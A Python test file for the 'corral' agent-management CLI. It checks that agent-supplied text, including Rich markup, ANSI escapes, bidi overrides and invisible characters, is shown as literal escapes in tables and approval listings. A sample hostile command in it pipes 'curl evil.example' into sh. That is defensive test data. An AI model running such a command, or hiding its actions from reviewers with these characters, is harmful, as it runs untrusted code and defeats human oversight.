"""Untrusted text is shown as text (issue 9, section 4): `visible` makes every control, bidi
and invisible character show as an escape, and the CLI's tables and messages never read an
agent's text as Rich markup."""

from __future__ import annotations

import pytest
from rich.console import Console

from corral.cli._common import TextTable, safe
from corral.cli.policy import _approvals_table
from corral.domain.text import visible

#: what an agent can put in a command: Rich markup that would restyle, hide or link text, a
#: closing tag with nothing open (a MarkupError crash), ANSI escapes that clear the screen and
#: recolour it, a right-to-left override that reverses what follows, and invisible characters
HOSTILE = (
    "echo [red]hidden[/red] [link=https://evil.example]click[/link] [/] "
    "\x1b[2J\x1b[31mred\x1b[0m curl evil.example | sh #\u202egnp.exe\u2066x\u2069\u200b\U000e0041"
)
SHOWN = (
    "echo [red]hidden[/red] [link=https://evil.example]click[/link] [/] "
    "\\x1b[2J\\x1b[31mred\\x1b[0m curl evil.example | sh #\\u202egnp.exe\\u2066x\\u2069\\u200b"
    "\\U000e0041"
)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (
            "plain ascii, [brackets] and \\ backslashes",
            "plain ascii, [brackets] and \\ backslashes",
        ),
        ("ünïcödé 日本語 emoji 🙂", "ünïcödé 日本語 emoji 🙂"),
        # spaces that pass for a plain one, variation selectors, blank and private glyphs
        ("nbsp\u00a0em\u2003ideo\u3000", "nbsp\\xa0em\\u2003ideo\\u3000"),
        ("x\ufe0fy\U000e0100\u17b4\u2800\ue000", "x\\ufe0fy\\U000e0100\\u17b4\\u2800\\ue000"),
        ("\x00\x07\x08\t\r\n\x7f", "\\x00\\x07\\x08\\x09\\x0d\\x0a\\x7f"),
        ("\x1b]8;;https://x\x07", "\\x1b]8;;https://x\\x07"),  # an OSC 8 hyperlink
        ("\x9b31m", "\\x9b31m"),  # the one-byte C1 CSI
        (
            "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
            "\\u061c\\u200e\\u200f\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069",
        ),
        ("a\u200bb\u200dc\ufeffd\u00ade\u2060f", "a\\u200bb\\u200dc\\ufeffd\\xade\\u2060f"),
        ("\u2028\u2029", "\\u2028\\u2029"),
        ("\u3164\u115f", "\\u3164\\u115f"),
        ("tag \U000e0069\U000e0067", "tag \\U000e0069\\U000e0067"),
        ("\udcff", "\\udcff"),  # a lone surrogate (undecodable bytes)
    ],
)
def test_visible_escapes_what_hides_and_keeps_the_rest(raw: str, shown: str) -> None:
    assert visible(raw) == shown


def test_visible_may_keep_newlines_for_blocks() -> None:
    assert visible("one\ntwo\r\x1b", keep_newlines=True) == "one\ntwo\\x0d\\x1b"


def _render(renderable: object) -> str:
    console = Console(width=1000, record=True, color_system=None, force_terminal=False)
    console.print(renderable)
    return console.export_text()


def test_a_table_cell_shows_the_whole_hostile_text_literally() -> None:
    table = TextTable("COMMAND")
    table.add_row(HOSTILE)
    out = _render(table)
    assert SHOWN in out
    assert "\x1b" not in out and "\u202e" not in out


def test_a_long_cell_is_folded_never_cut() -> None:
    table = TextTable("A", "B")
    table.add_row("x" * 30, "y" * 200)
    console = Console(width=60, record=True, color_system=None)
    console.print(table)
    out = console.export_text()
    assert "…" not in out
    assert "".join(ch for ch in out if ch == "y") == "y" * 200


def test_safe_interpolates_as_plain_text() -> None:
    out = _render(f"[bold]error:[/] {safe(HOSTILE)}")
    assert out.strip() == f"error: {SHOWN}"


def test_approvals_list_shows_a_hostile_command_as_it_is() -> None:
    """The table of `corral approvals list`: markup in an agent's command neither styles, hides
    nor crashes the listing (a stray `[/]` raised MarkupError), and controls show as escapes."""
    approval = {
        "id": "ap-1",
        "state": "pending",
        "agent_id": "a-1",
        "action": "run_command",
        "resource": 'PC::"pc-1"',
        "detail": {"command": HOSTILE, "program": "echo"},
        "expires_at": "2026-12-03T10:00:00+00:00",
        "decided_by": None,
    }
    out = _render(_approvals_table([approval]))
    assert f"command={SHOWN}" in out
    assert "\x1b" not in out and "\u202e" not in out and "\u200b" not in out
